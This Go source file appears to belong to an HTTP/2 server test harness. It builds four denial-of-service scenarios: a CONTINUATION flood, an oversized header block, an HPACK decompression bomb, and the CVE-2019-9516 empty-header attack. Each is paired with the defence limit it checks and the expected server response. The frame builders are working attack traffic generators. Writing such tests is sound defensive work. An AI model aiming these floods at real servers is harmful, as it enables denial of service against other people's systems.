package scenario

import (
	"bytes"
	"strconv"
	"strings"

	"github.com/h2proto/h2/core"
	"github.com/h2proto/h2/core/frame"
)

// Field-block attacks: CONTINUATION flood (2024), oversized blocks, HPACK
// amplification (A12) and 0-length fields (CVE-2019-9516).

var continuationFlood = &Scenario{
	Name:        "continuation-flood",
	Description: "HEADERS without END_HEADERS, then CONTINUATION frames that never end the block (Nowotarski 2024)",
	Defence:     "Limits.MaxContinuations: 8 CONTINUATION frames per block",
	Expect:      []Expect{abuseExpect(core.AbuseContinuationFlood)},
	Legit:       "legit-continuation",
	DefaultN:    10_000,
	Unit:        "CONTINUATION frames",
	build: func(s *Script, o Options) {
		s.handshake()
		id := s.newStream()
		s.add(headers(id, true, false, s.request("GET", o.Path)))
		for i := range o.N {
			s.add(frame.AppendContinuation(nil, id, false, appendLiteral(nil, "x-c", strconv.Itoa(i))))
		}
	},
}

// fragmentSize is the fragment carried by each frame of an oversized block:
// the largest payload every peer must accept (RFC 9113 §4.2).
const fragmentSize = frame.MinMaxFrameSize

var oversizedBlock = &Scenario{
	Name:        "oversized-header-block",
	Description: "one field block of full 16 KiB frames, far beyond any header list limit",
	Defence:     "Limits.MaxHeaderBlockSize: 128 KiB encoded (2 × MaxHeaderListSize)",
	Expect:      []Expect{abuseExpect(core.AbuseHeaderBlockTooLarge), abuseExpect(core.AbuseContinuationFlood)},
	Legit:       "legit-large-headers",
	DefaultN:    64,
	Unit:        "16 KiB CONTINUATION frames",
	build: func(s *Script, o Options) {
		s.handshake()
		id := s.newStream()
		want := (o.N + 1) * fragmentSize
		block := s.request("GET", o.Path)
		pad := strings.Repeat("a", 4000)
		for i := 0; len(block) < want; i++ {
			block = appendLiteral(block, "x-pad-"+strconv.Itoa(i), pad)
		}
		block = block[:want]
		s.add(headers(id, true, false, block[:fragmentSize]))
		for i := 1; i <= o.N; i++ {
			s.add(frame.AppendContinuation(nil, id, i == o.N, block[i*fragmentSize:(i+1)*fragmentSize]))
		}
	},
}

// bombRefs is the number of indexed references to the big entry per block:
// 1 byte each on the wire, ~4 KiB each decoded (16 MB per block).
const bombRefs = 4000

var hpackBomb = &Scenario{
	Name:        "hpack-bomb",
	Description: "one 4,000-byte field inserted in the HPACK table, then 4,000 one-byte references to it per request (≈16 MB decoded from 4 KB)",
	Defence:     "MaxHeaderListSize (64 KiB) checked while decoding: each request answered 431 and charged to Limits.MaxForcedResets (1,024)",
	Expect:      []Expect{abuseExpect(core.AbuseForcedResets), {Outcome: OutcomeOpen, Status: 431}, abuseExpect(core.AbuseControlFlood)},
	Legit:       "legit-large-headers",
	DefaultN:    2_000,
	Unit:        "requests",
	build: func(s *Script, o Options) {
		s.handshake()
		big := strings.Repeat("b", 4000)
		refs := bytes.Repeat(appendIndexed(nil, 62), bombRefs)
		for i := range o.N {
			block := s.request("GET", o.Path)
			if i == 0 {
				block = appendIndexedLiteral(block, "x-bomb", big) // dynamic index 62
			}
			s.add(headers(s.newStream(), true, true, append(block, refs...)))
		}
	},
}

// emptyFields is the number of 0-length fields per block (3 bytes each):
// at 32 bytes of overhead each, 80,000 bytes against a 64 KiB list limit.
const emptyFields = 2500

var emptyHeaders = &Scenario{
	Name:        "empty-headers",
	Description: "requests carrying 2,500 fields with empty name and value each (CVE-2019-9516)",
	Defence:     "32 bytes of overhead per field against MaxHeaderListSize: each request answered 431 and charged to Limits.MaxForcedResets (1,024)",
	Expect:      []Expect{abuseExpect(core.AbuseForcedResets), {Outcome: OutcomeOpen, Status: 431}, {Outcome: OutcomeRST}, abuseExpect(core.AbuseControlFlood)},
	Legit:       "legit-large-headers",
	DefaultN:    2_000,
	Unit:        "requests",
	build: func(s *Script, o Options) {
		s.handshake()
		empty := bytes.Repeat(appendLiteral(nil, "", ""), emptyFields) // 0x00 0x00 0x00 each
		for range o.N {
			block := s.request("GET", o.Path)
			s.add(headers(s.newStream(), true, true, append(block, empty...)))
		}
	},
}
